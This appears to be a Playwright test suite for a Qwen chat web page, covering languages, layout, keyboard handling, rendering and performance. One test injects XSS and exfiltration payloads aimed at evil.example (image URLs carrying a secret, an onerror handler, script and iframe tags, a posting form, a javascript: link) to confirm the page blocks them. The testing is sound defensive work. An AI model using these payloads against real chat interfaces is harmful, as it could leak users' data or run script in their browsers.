"""The page itself: languages, widths, keyboard, and what a reply may not do."""

from __future__ import annotations

from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from chat_page import ChatPage
from qwendow.gradio_seam.settled import SCRIPTS
from recorder import Recorder, wait_until

pytestmark = pytest.mark.goes_on

COUNTED_FRAMES = """(() => {
    const real = requestAnimationFrame;
    window.frames = 0;
    window.requestAnimationFrame = (tick) => {
        window.frames += 1;
        return real.call(window, tick);
    };
})()"""
"""Counts the frames that are asked for."""

SHIFTED = """window.shifted = 0;
new PerformanceObserver((list) => list.getEntries().forEach((one) => (window.shifted += one.value)))
    .observe({type: "layout-shift", buffered: true});"""
"""Sums up what moves without the reader."""

REQUIREMENTS = (Path(__file__).parents[2] / "requirements.txt").read_text("utf-8")
SHORTCUTS = pytest.mark.skipif(
    f"gradio=={version('gradio')} " not in REQUIREMENTS, reason="what is for speed is not in"
)

CLONES = """window.idle = [];
const clone = structuredClone;
window.structuredClone = (value) => {
    if (!["object", "symbol"].includes(typeof value)) window.idle.push(typeof value);
    return clone(value);
};
new MutationObserver((records) => {
    for (const {oldValue, target} of records) if (oldValue === target.dir) window.idle.push("dir");
}).observe(document, {subtree: true, attributeFilter: ["dir"], attributeOldValue: true});
window.drawn = [];
const replace = String.prototype.replace;
String.prototype.replace = function (what, ...how) {
    if (what instanceof RegExp) window.drawn.push(String(this));  // As Markdown is read, and not for files.
    return replace.call(this, what, ...how);
};
window.looked = new Map();
const dir = Object.getOwnPropertyDescriptor(HTMLElement.prototype, "dir");
Object.defineProperty(HTMLElement.prototype, "dir", {...dir, get() {
    window.looked.set(this, (window.looked.get(this) ?? 0) + 1);
    return dir.get.call(this);
}});"""


def test_chinese_reader_finds_no_english(open_page: Callable[..., ChatPage], endpoint: Recorder) -> None:
    chat = open_page(locale="zh-CN")
    expect(chat.box).to_have_attribute("placeholder", "有什么想问千问的？")
    expect(chat.page.locator("#chat .placeholder h2")).to_have_text("通用助手")
    labels = (
        chat.page.locator("#settings").locator("[data-testid=block-info], .info-text, button#reset").all_inner_texts()
    )
    assert [text for text in labels if text and not any("一" <= letter <= "鿿" for letter in text)] == []
    chat.ask("[[fault:401]] 你好")
    expect(chat.card).to_contain_text("密钥无效")
    assert chat.card.get_by_role("link").get_attribute("href") == "https://help.aliyun.com/zh/model-studio/error-code"


def test_other_languages_read_the_nearest_of_the_two(open_page: Callable[..., ChatPage]) -> None:
    expect(open_page(locale="zh-TW").box).to_have_attribute("placeholder", "有什么想问千问的？")
    expect(open_page(locale="de-DE").box).to_have_attribute("placeholder", "Ask Qwen anything")


def test_on_a_phone_the_settings_start_closed_and_nothing_overflows(open_page: Callable[..., ChatPage]) -> None:
    chat = open_page(width=390, height=844)
    chat.page.wait_for_timeout(600)
    assert "open" not in (chat.page.locator("#settings").get_attribute("class") or "").split()
    box = chat.box.bounding_box()
    assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390
    chat.good_turn("Compare three sorting algorithms in a table")
    assert chat.evaluate("document.documentElement.scrollWidth") <= 390
    expect(chat.box).to_be_in_viewport()
    chat.page.get_by_role("button", name="Settings", exact=True).click()
    expect(chat.page.locator("#model")).to_be_in_viewport()


def test_on_a_desktop_the_settings_are_open_beside_the_chat(chat: ChatPage) -> None:
    expect(chat.page.locator("#model")).to_be_in_viewport()
    settings, message = chat.page.locator("#settings").bounding_box(), chat.page.locator("#message").bounding_box()
    assert settings and message and message["x"] + message["width"] <= settings["x"]


def test_long_conversation_scrolls_while_the_box_stays(chat: ChatPage) -> None:
    for _ in range(3):
        chat.good_turn("Show what you can format")
    expect(chat.box).to_be_in_viewport()
    assert chat.evaluate("document.documentElement.scrollHeight") <= 800


def test_reader_who_has_scrolled_up_is_left_alone_until_the_next_question(chat: ChatPage) -> None:
    room = "document.querySelector('#chat .bubble-wrap')"
    to_end = f"{room}.scrollHeight - {room}.clientHeight - {room}.scrollTop"
    at_end = f"{to_end} < 40"  # It follows in the frame after.
    for _ in range(2):
        chat.good_turn("Show what you can format")
    chat.page.wait_for_function(at_end)
    chat.send("[[fault:slow seconds=0.2]] Show what you can format")
    chat.page.wait_for_timeout(500)
    chat.page.wait_for_function(at_end)
    chat.page.locator("#chat").hover()
    chat.page.mouse.wheel(0, -600)
    chat.page.wait_for_timeout(1500)
    assert chat.evaluate(to_end) >= 500
    chat.stop_button.click()
    chat.settled()
    chat.good_turn("hello")
    chat.page.wait_for_function(at_end)


def test_a_fall_that_is_of_the_layout_is_not_taken_for_the_readers(chat: ChatPage) -> None:
    """In Firefox 153 and WebKitGTK 2.50 the chat is shorter for a moment, and the fall is told when it is over."""
    room = "document.querySelector('#chat .bubble-wrap')"
    for _ in range(2):
        chat.good_turn("Show what you can format")
    chat.evaluate(
        f"""async () => {{
            const room = {room}, messages = room.firstElementChild;
            room.append(document.createComment("a change"));
            await null;  // It has been seen.
            messages.style.display = "none";
            window.fallen = room.scrollTop;
            messages.style.display = "";
        }}"""
    )
    chat.page.wait_for_timeout(300)
    gap = chat.evaluate(f"{room}.scrollHeight - {room}.clientHeight - {room}.scrollTop")
    assert (chat.evaluate("window.fallen"), gap < 40) == (0, True)


def test_wide_things_scroll_in_their_own_box_on_a_phone(open_page: Callable[..., ChatPage]) -> None:
    chat = open_page(width=390, height=844)
    wide = " + ".join(f"a_{{{number}}}" for number in range(60))
    cells = " | ".join(["a long cell"] * 12)
    chat.good_turn(
        f"[[echo]] $${wide}$$\n\n`{'code' * 60}`\n\n| {cells} |\n|{'---|' * 12}\n| {cells} |\n\n{'long' * 90}"
    )
    assert chat.evaluate("document.querySelector('#chat .bubble-wrap').scrollWidth") <= 390


def test_focus_and_placeholder_survive_a_turn_and_a_draft_is_kept(chat: ChatPage) -> None:
    chat.send("[[fault:slow seconds=0.03]] hello")
    expect(chat.bots.last).not_to_be_empty(timeout=10_000)
    chat.box.press_sequentially("a draft")
    chat.settled()
    expect(chat.box).to_have_value("a draft")
    expect(chat.box).to_be_focused()
    chat.box.fill("")
    expect(chat.box).to_have_attribute("placeholder", "Ask Qwen anything")


def test_shift_enter_breaks_the_line_and_enter_sends(chat: ChatPage, endpoint: Recorder) -> None:
    chat.box.press_sequentially("one")
    chat.box.press("Shift+Enter")
    chat.box.press_sequentially("two")
    expect(chat.box).to_have_value("one\ntwo")
    chat.box.press("Enter")
    wait_until(lambda: len(endpoint.calls) == 1, 20)
    assert endpoint.calls[0].messages[-1]["content"] == "one\ntwo"


def test_enter_of_an_input_method_does_not_send(chat: ChatPage, endpoint: Recorder) -> None:
    chat.box.fill("nihao")
    for event in ("isComposing: true", "keyCode: 229"):  # In Chromium, and in Safari.
        chat.box.evaluate(
            f"""(box) => {{
                for (const type of ["keydown", "keypress", "keyup"]) box.dispatchEvent(
                    new KeyboardEvent(type, {{key: "Enter", bubbles: true, cancelable: true, {event}}}));
            }}"""
        )
        chat.page.wait_for_timeout(500)
        expect(chat.box).to_have_value("nihao")
    assert endpoint.calls == []


def test_nothing_typed_sends_nothing(chat: ChatPage, endpoint: Recorder) -> None:
    for nothing in ("", "   ", "\u200b\ufeff"):
        chat.box.fill(nothing)
        chat.box.press("Enter")
        chat.page.wait_for_timeout(400)
        expect(chat.users).to_have_count(0)
    assert endpoint.calls == []
    chat.good_turn()


def test_mathematics_code_tables_and_diagrams_are_drawn(chat: ChatPage) -> None:
    chat.good_turn(
        "[[echo]] $a^2$ and \\(b^2\\)\n\n$$c^2$$\n\n\\[d^2\\]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint(1)\n```\n\n```mermaid\ngraph LR\n  A --> B\n```\n"
    )
    answer = chat.bots.last
    expect(answer.locator(".katex")).to_have_count(4)
    expect(answer.locator("table td")).to_have_text(["1", "2"])
    expect(answer.locator("pre code.language-python")).to_have_count(1)
    expect(answer.locator("svg[id^=mermaid]")).to_be_visible(timeout=10_000)


def test_reply_fetches_nothing_runs_nothing_and_posts_nothing(chat: ChatPage) -> None:
    chat.page.route("https://evil.example/**", lambda route: route.abort())
    answered: list[str] = []
    chat.page.on("requestfinished", lambda request: answered.append(request.url))
    chat.ask(
        "[[echo]] ![x](https://evil.example/a.png?q=secret) <img src='https://evil.example/b.png' "
        "onerror='window.pwned=1'> <script>window.pwned=1</script> <iframe src='https://evil.example/c'></iframe> "
        "<form action='https://evil.example/d'><button>login</button></form> "
        "<div style='background:url(https://evil.example/e)'>x</div> [link](javascript:window.pwned=1)"
    )
    chat.page.wait_for_timeout(500)
    assert chat.evaluate("window.pwned") is None
    assert [url for url in answered if "evil" in url] == []


def test_form_in_a_reply_is_words_and_no_form_of_the_page_would_be_sent(chat: ChatPage) -> None:
    form = "<form action='https://evil.example/d'><button>login</button></form>"
    chat.ask(f"[[echo]] {form}")
    answer = chat.bots.last
    expect(answer).to_contain_text(form)
    expect(answer.locator("form")).to_have_count(0)
    stopped_by = answer.evaluate(
        """(answer, form) => new Promise((tell) => {
            addEventListener("securitypolicyviolation", (event) => tell(event.effectiveDirective), {once: true});
            answer.insertAdjacentHTML("beforeend", form);
            answer.querySelector("form button").click();
        })""",
        form,
    )
    assert stopped_by == "form-action"


@SHORTCUTS
def test_refresh_leaves_what_has_settled_alone(open_page: Callable[..., ChatPage]) -> None:
    """It neither clones words nor sets a direction again, nor draws or looks into the messages before."""
    chat = open_page(script=CLONES)
    for _ in range(2):
        chat.good_turn("Show what you can format")
    chat.coming("[[fault:slow seconds=0.05]] hello")
    chat.evaluate("window.looked.clear(); window.drawn.length = 0")
    chat.settled()
    assert chat.evaluate("window.idle") == []
    drawn = chat.evaluate("window.drawn")
    assert len(drawn) > 100 and not any("A short tour" in text for text in drawn)
    looked = chat.bots.evaluate_all("(all) => all.map((one) => window.looked.get(one) ?? 0)")
    assert looked[-1] > 10 and max(looked[:-1]) <= 3


def test_only_what_says_the_same_as_before_is_what_was_before(chat: ChatPage) -> None:
    """Messages of Gradio's chatbot, groups of them, and the status of an event."""
    tried = """() => {
        const text = {type: "text", role: "assistant", index: 1, content: "a", metadata: {title: null}};
        const kept = (more) => {
            const before = sameMessage(structuredClone(text), 0);
            return sameMessage({...structuredClone(text), ...more}, 0) === before;
        };
        const changed = structuredClone(text), was = sameMessage(changed, 0);
        changed.metadata.title = "b";
        const grouped = (group) => sameGroup(["a", "b"], 0) === sameGroup(group, 0);
        const told = {fn_index: 1, status: "generating"}, current = {5: told, 6: told, 7: {...told, status: "pending"}};
        const same = (event, status, parts) => sameStatus({current, fn_outputs: {[event]: parts}}, event, status);
        return {
            messages: [
                {}, {content: "b"}, {metadata: {title: "b"}}, {options: [1]}, {index: 2}, {role: "user"},
                {type: "component"}, {children: []},
            ].map(kept),
            changed: sameMessage({...changed}, 0) === was,
            groups: [["a", "b"], ["a"], ["a", "b", "c"], ["a", "c"]].map(grouped),
            statuses: [
                same(1, {stage: "generating"}, [5, 6]), same(1, {stage: "complete"}, [5, 6]),
                same(1, {stage: "generating"}, [5, 7]), same(2, {stage: "generating"}, [5, 6]),
                same(1, {stage: "generating", progress_data: [1]}, [5, 6]),
            ],
        };
    }"""
    source = "".join((SCRIPTS / f"{name}.js").read_text("utf-8") for name in ("same", "status"))
    assert chat.evaluate(f"() => {{ {source}\n return ({tried})(); }}") == {
        "messages": [True] + [False] * 7,
        "changed": False,
        "groups": [True, False, False, False],
        "statuses": [True, False, False, False, False],
    }


def test_things_are_cloned_and_functions_refused_as_ever(chat: ChatPage) -> None:
    tried = """() => [{deep: [1, null]}, [], "word", 1n, undefined, () => 1, Symbol()].map((value) => {
        try {
            const copy = structuredClone(value);
            return [JSON.stringify(copy, (_, leaf) => typeof leaf === "bigint" ? `${leaf}` : leaf), copy === value];
        } catch (error) {
            return error.name;
        }
    })"""
    assert chat.evaluate(tried) == [
        ['{"deep":[1,null]}', False], ["[]", False], ['"word"', True], ['"1"', True], [None, True],
        "DataCloneError", "DataCloneError",
    ]  # fmt: skip


@SHORTCUTS
def test_the_page_asks_for_no_frames_once_an_answer_is_there(open_page: Callable[..., ChatPage]) -> None:
    chat = open_page(script=COUNTED_FRAMES)
    assert chat.evaluate("window.frames") > 0
    chat.good_turn()
    asked = []
    while not asked or (asked[-1] > 5 and len(asked) < 10):  # The sign that stands for loading comes to rest first.
        before = chat.evaluate("window.frames")
        chat.page.wait_for_timeout(1_000)
        asked.append(chat.evaluate("window.frames") - before)
    assert asked[-1] <= 5


@SHORTCUTS
def test_a_first_visit_is_small_and_stands_still(browser: Browser, app_url: str) -> None:
    """And with the list and the settings beside the chat; a second one asks for nothing that the browser has."""
    context = browser.new_context(viewport={"width": 1500, "height": 800})
    visits = []
    for _ in range(2):
        page = context.new_page()
        page.add_init_script(SHIFTED)
        sizes: dict[str, float] = {}
        devtools = context.new_cdp_session(page)
        devtools.send("Network.enable")
        devtools.on(
            "Network.loadingFinished",
            lambda event, sizes=sizes: sizes.update({event["requestId"]: event["encodedDataLength"]}),
        )
        page.goto(app_url)
        expect(page.locator("#bar i")).to_have_count(1)
        expect(page.locator("#message .chip.model span")).not_to_be_empty()
        expect(page.locator("#settings.open")).to_have_count(1)
        expect(page.locator("#history")).to_be_visible()
        visits.append((len([size for size in sizes.values() if size]), sum(sizes.values()), page.evaluate("shifted")))
        page.close()
    context.close()
    (first, size, moved), (again, small, moved_again) = visits
    assert first <= 7 and 100_000 < size <= 280_000 and again <= 3 and small <= 3_500, visits
    assert moved <= 0.02 and moved_again <= 0.02, visits
